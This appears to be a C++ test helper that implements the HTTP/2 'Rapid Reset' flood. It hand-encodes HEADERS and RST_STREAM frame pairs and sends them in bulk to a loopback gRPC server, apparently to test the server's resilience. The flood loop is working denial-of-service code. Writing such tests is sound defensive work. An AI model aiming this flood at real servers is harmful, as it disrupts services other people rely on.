#include "tests/server/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <string>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"

namespace ckpt {
namespace testutil {
namespace {

constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
enum FrameType : uint8_t { kHeaders = 1, kRstStream = 3, kSettings = 4, kPing = 6 };
constexpr uint8_t kEndHeaders = 0x4;
constexpr uint8_t kAck = 0x1;
constexpr uint32_t kCancel = 8;

void AppendFrame(std::string* out, FrameType type, uint8_t flags, uint32_t stream,
                 const std::string& payload) {
  const uint32_t length = static_cast<uint32_t>(payload.size());
  out->push_back(static_cast<char>(length >> 16));
  out->push_back(static_cast<char>(length >> 8));
  out->push_back(static_cast<char>(length));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) out->push_back(static_cast<char>(stream >> shift));
  out->append(payload);
}

// HPACK: a literal header field without indexing, with a static-table name (index < 15)
// or a literal name (index 0).
void AppendLiteral(std::string* out, int name_index, const std::string& name,
                   const std::string& value) {
  out->push_back(static_cast<char>(name_index));
  if (name_index == 0) {
    out->push_back(static_cast<char>(name.size()));
    out->append(name);
  }
  out->push_back(static_cast<char>(value.size()));
  out->append(value);
}

// The request headers of a gRPC call to `path`.
std::string HeaderBlock(const std::string& path) {
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method POST (static 3)
  block.push_back(static_cast<char>(0x86));  // :scheme http (static 6)
  AppendLiteral(&block, 4, "", path);        // :path
  AppendLiteral(&block, 1, "", "ckptd");     // :authority
  AppendLiteral(&block, 0, "content-type", "application/grpc");
  AppendLiteral(&block, 0, "te", "trailers");
  return block;
}

// The server's side of the connection: frames read and dropped, except that a PING
// ACK is noticed.
class Inbox {
 public:
  explicit Inbox(int fd) : fd_(fd) {}

  // Reads what is there; false if the peer closed.
  bool Read() {
    char buffer[65536];
    const ssize_t n = ::recv(fd_, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (n == 0) return false;
    if (n < 0) return errno == EAGAIN || errno == EINTR;
    bytes_.append(buffer, static_cast<size_t>(n));
    while (bytes_.size() >= 9) {
      const size_t length = (static_cast<uint8_t>(bytes_[0]) << 16) |
                            (static_cast<uint8_t>(bytes_[1]) << 8) |
                            static_cast<uint8_t>(bytes_[2]);
      if (bytes_.size() < 9 + length) break;
      if (bytes_[3] == kPing && (bytes_[4] & kAck)) ping_acked_ = true;
      bytes_.erase(0, 9 + length);
    }
    return true;
  }
  bool ping_acked() const { return ping_acked_; }

 private:
  const int fd_;
  std::string bytes_;
  bool ping_acked_ = false;
};

// Writes all of `data`, reading what the server sends whenever the socket is not
// writable, so the server never blocks on us. false if the peer closed.
bool WriteAll(int fd, Inbox& inbox, const std::string& data) {
  size_t sent = 0;
  while (sent < data.size()) {
    pollfd p{fd, POLLIN | POLLOUT, 0};
    if (::poll(&p, 1, -1) < 0 && errno != EINTR) return false;
    if ((p.revents & POLLIN) && !inbox.Read()) return false;
    if (p.revents & (POLLERR | POLLHUP)) return false;
    if (p.revents & POLLOUT) {
      const ssize_t n =
          ::send(fd, data.data() + sent, data.size() - sent, MSG_DONTWAIT | MSG_NOSIGNAL);
      if (n < 0 && errno != EAGAIN && errno != EINTR) return false;
      if (n > 0) sent += static_cast<size_t>(n);
    }
  }
  return true;
}

// Sends a PING and reads until its ACK: the server has read every frame before it.
void AwaitPingAck(int fd, Inbox& inbox) {
  std::string ping;
  AppendFrame(&ping, kPing, 0, 0, std::string(8, 'p'));
  if (!WriteAll(fd, inbox, ping)) return;
  while (!inbox.ping_acked()) {
    pollfd p{fd, POLLIN, 0};
    if (::poll(&p, 1, -1) < 0 && errno != EINTR) return;
    if (!inbox.Read()) return;
  }
}

}  // namespace

absl::StatusOr<int> RapidReset(const std::string& address, const std::string& path, int pairs) {
  int port = 0;
  if (!absl::SimpleAtoi(address.substr(address.rfind(':') + 1), &port)) {
    return absl::InvalidArgumentError(absl::StrCat("bad address ", address));
  }
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    const int err = errno;
    ::close(fd);
    return absl::InternalError(absl::StrCat("connect: ", std::strerror(err)));
  }
  std::string out(kPreface, sizeof(kPreface) - 1);
  AppendFrame(&out, kSettings, 0, 0, "");
  const std::string headers = HeaderBlock(path);
  std::string rst(4, '\0');
  for (int i = 0; i < 4; ++i) rst[i] = static_cast<char>(kCancel >> (24 - 8 * i));
  constexpr int kPairsPerWrite = 256;
  uint32_t stream = 1;
  Inbox inbox(fd);
  bool open = WriteAll(fd, inbox, out);
  int written = 0;
  while (open && written < pairs) {
    out.clear();
    int batch = 0;
    for (; batch < kPairsPerWrite && written + batch < pairs; ++batch, stream += 2) {
      AppendFrame(&out, kHeaders, kEndHeaders, stream, headers);
      AppendFrame(&out, kRstStream, 0, stream, rst);
    }
    open = WriteAll(fd, inbox, out);
    if (open) written += batch;
  }
  if (open) AwaitPingAck(fd, inbox);
  ::close(fd);
  return written;
}

}  // namespace testutil
}  // namespace ckpt
